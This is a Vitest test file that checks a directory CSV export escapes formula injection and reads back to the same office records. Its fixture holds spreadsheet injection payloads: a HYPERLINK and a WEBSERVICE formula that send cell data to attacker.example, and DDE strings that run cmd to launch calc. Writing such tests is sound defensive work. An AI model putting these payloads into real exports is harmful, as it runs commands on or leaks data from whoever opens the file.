// Issue 12 item 6: `directory export --format csv` never writes a cell a spreadsheet would run
// as a formula (OWASP CSV injection), and reading the export back gives the same offices.
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { readDirectory, writeCsv } from "../../src/directory/formats.js";
import type { Office } from "../../src/directory/types.js";

const hostile: Office = {
  id: "mbe-formula",
  kind: "mbe",
  name: '=HYPERLINK("http://attacker.example/?"&A1,"Klicken")',
  provider: "+cmd|' /C calc'!A0",
  address: "@SUM(1+1)*cmd|' /C calc'!A0",
  city: "-2+3+cmd|' /C calc'!A0",
  phone: "+49 2452 123456",
  hours: "=1+1",
  note: "\tTab vorn",
  languages: ["de"],
  online: false,
  areas: ["05370"],
  source: "=WEBSERVICE(\"http://attacker.example\")",
};

describe("the CSV export", () => {
  it("starts no cell with = + - @, tab or carriage return, whatever the office says", () => {
    const csv = writeCsv([hostile]);
    const rows = parse(csv, { relax_quotes: true }) as string[][];
    const cells = rows.flat();
    const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(dangerous).toEqual([]);
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
  });

  it("reads its own export back to the same office", () => {
    const back = readDirectory("export.csv", writeCsv([hostile]), "csv");
    expect(back.problems).toEqual([]);
    // the reader trims cells; the tab is gone, the text after it stays
    expect(back.offices[0]).toEqual({ ...hostile, note: "Tab vorn" });
  });
});
